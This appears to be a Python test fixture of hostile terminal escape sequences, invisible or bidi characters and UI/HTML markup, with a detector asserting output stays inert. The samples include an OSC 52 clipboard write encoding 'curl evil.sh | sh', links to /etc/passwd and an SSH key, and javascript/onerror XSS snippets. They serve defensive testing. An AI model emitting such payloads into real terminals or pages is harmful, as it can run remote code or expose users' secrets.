"""Hostile text a model (or a doctored file) may send, and the checks that it stayed inert.

Every sample carries a visible marker word, so a test can check both halves of the
contract: nothing acts on the terminal, and what a reader should see is still there.
"""

from __future__ import annotations

import re

CONTROL_SEQUENCES: dict[str, str] = {
    "csi colour": "\x1b[31;1mVISIBLE\x1b[0m",
    "csi cursor moves": "\x1b[2J\x1b[H\x1b[10;10HVISIBLE\x1b[1A\x1b[K",
    "csi private mode": "\x1b[?1049h\x1b[?25lVISIBLE\x1b[?1000h",
    "osc 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07VISIBLE",
    "osc 8 link": "\x1b]8;;file:///etc/passwd\x1b\\VISIBLE\x1b]8;;\x1b\\",
    "osc title bel": "\x1b]0;pwned\x07VISIBLE",
    "osc title st": "\x1b]2;pwned\x1b\\VISIBLE",
    "osc unterminated": "VISIBLE\x1b]0;never ends",
    "dcs": "\x1bP+q544e\x1b\\VISIBLE",
    "apc": "\x1b_Gf=100;AAAA\x1b\\VISIBLE",
    "c1 csi": "\x9b31mVISIBLE\x9b0m",
    "c1 osc": "\x9d0;pwned\x9cVISIBLE",
    "c1 controls": "\x85\x8d\x90VISIBLE\x9c\x9e\x9f",
    "c0 controls": "\x07\x08\x00VIS\x7fIBLE\x0b\x0c\x0e\x0f",
    "carriage return overwrite": "VISIBLE\rXXXXXXX",
    "two-char escapes": "\x1bcVISIBLE\x1b7\x1b8\x1bM",
    "bidi override": "\u202eELBISIV\u202c VISIBLE",
    "bidi isolates": "\u2066VISIBLE\u2069\u2067x\u2069\u2068y\u2069",
    "bidi marks": "\u200eVISIBLE\u200f\u061c",
    "zero width": "VIS\u200bIB\u200c\u200dLE\u2060\ufeff",
    "line separators": "VISIBLE\u2028\u2029",
    "lone escape at end": "VISIBLE\x1b",
}
"""Escape sequences and invisible or reordering characters, each around the word VISIBLE."""

MARKUP: dict[str, str] = {
    "rich markup": "[bold red]VISIBLE[/bold red] [blink]x[/]",
    "rich link": "[link=https://evil.example/]VISIBLE[/link]",
    "textual click quit": "[@click=app.quit]VISIBLE[/]",
    "textual click bell": "[@click=app.bell]VISIBLE[/] [@click=screen.dismiss]x[/]",
    "textual click command palette": "[@click=app.command_palette]VISIBLE[/]",
    "markdown link file": "[VISIBLE](file:///etc/passwd)",
    "markdown image file": "![VISIBLE](file:///home/you/.ssh/id_rsa)",
    "markdown link js": "[VISIBLE](javascript:alert(1))",
    "markdown autolink": "<https://evil.example/VISIBLE>",
    "html": "<a href='x'>VISIBLE</a><img src=x onerror=alert(1)>",
    "escaped brackets": "\\[bold]VISIBLE\\[/bold]",
}
"""Markup of every kind the UI or a viewer could interpret: it must show as the text written."""

ALL = {**CONTROL_SEQUENCES, **MARKUP}

_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")


def unsafe_characters(text: str) -> list[str]:
    """The characters in `text` that could act on a terminal or hide or reorder text (newline and tab are fine)."""
    return sorted({f"U+{ord(c):04X}" for c in _UNSAFE.findall(text)})


def assert_inert(text: str, where: str = "output") -> None:
    """No escape, control, bidi or zero-width character anywhere in `text`."""
    found = unsafe_characters(text)
    assert not found, f"{where} carries terminal-active or invisible characters: {found}"


def assert_inert_bytes(blob: bytes, where: str = "output") -> None:
    """As `assert_inert`, for bytes (checked both raw, for 8-bit C1 and ESC, and decoded)."""
    assert b"\x1b" not in blob, f"{where} carries a raw ESC byte"
    assert_inert(blob.decode("utf-8", "replace"), where)
